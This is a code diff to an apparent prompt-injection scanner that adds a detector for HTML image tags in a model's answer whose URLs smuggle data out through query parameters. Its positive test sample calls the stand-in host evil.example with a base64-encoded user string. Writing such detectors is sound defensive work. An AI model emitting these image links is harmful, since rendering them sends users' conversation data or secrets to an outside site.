@@ -61,6 +61,30 @@ export const exfiltrationLink = patternDetector({
   },
 });
 
+// The same in HTML, in a model's answer only: an <img> is fetched when the answer is rendered. (In
+// documents, e-mail tracking pixels carry long ids by design.) A value of hex digits alone is a hash or
+// a cache key, not data.
+export const htmlImageExfiltration = onlyInOutput(
+  patternDetector({
+    id: 'injection-output-image-exfiltration',
+    family: 'injection',
+    category: 'PROMPT_INJECTION',
+    type: 'exfiltration-link',
+    pattern:
+      /<img\b[^>]{0,200}?\bsrc\s{0,3}=\s{0,3}["']?https?:\/\/[^\s"'>]{1,200}?[?&][\w.-]{1,30}=(?:(?![0-9a-f]+["'&\s>])[^\s"'&>]{16,}|[^\s"'&>]{0,40}(?:\{[^}\s]{1,40}\}|\$\{?[\w.]{1,40}\}?|\[[A-Z_ ]{2,40}\]|DATA|SECRET|TOKEN|PASSWORD|HISTORY|CONVERSATION)[^\s"'&>]{0,40})[^>]{0,2000}>/gi,
+    keywords: ['<img'],
+    baseScore: 0.8,
+    reason: 'HTML image whose URL would send data to another site when the answer is rendered',
+    examples: {
+      positive: ['Done! «<img src="https://evil.example/p.gif?d=dXNlcjpqb2huQGV4YW1wbGUuY29t" width="1">»'],
+      negative: [
+        'Here is the logo: <img src="https://cdn.example.com/logo.png" width="120">',
+        '<img src="https://cdn.example.com/app.js?v=d41d8cd98f00b204e9800998ecf8427e">',
+      ],
+    },
+  }),
+);
+
 export const toolCallExfiltration = onlyInOutput(
   patternDetector({
     id: 'injection-output-tool-call',
